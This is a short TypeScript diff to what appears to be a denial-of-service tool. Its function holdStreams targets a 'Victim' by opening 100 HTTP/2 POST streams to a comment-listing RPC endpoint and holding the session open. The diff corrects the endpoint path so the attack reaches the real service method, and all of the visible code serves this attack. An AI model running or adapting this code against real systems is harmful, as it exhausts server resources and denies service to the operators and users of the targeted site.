@@ -69,12 +69,12 @@ async function holdStreams({ rpcUrl, headers }: Victim): Promise<void> {
   for (let call = 0; call < 100; call += 1) {
     const stream = session.request({
       ':method': 'POST',
-      ':path': '/comment.v1.Comment/Comments',
+      ':path': '/comment.v1.CommentService/ListComments',
       'content-type': 'application/proto',
       ...headers.comment,
     });
     stream.on('error', () => undefined);
-    // site_id 21, slug "hostile", limit 100: as protobuf numbers them, a wrong number costs the server the same.
+    // site_id 21, slug "hostile", limit 100.
     stream.end(Buffer.from([0x08, 21, 0x12, 7, ...Buffer.from('hostile'), 0x18, 100]));
   }
   await Promise.race([new Promise((resolve) => session.once('close', resolve)), wait(HOLDS)]);
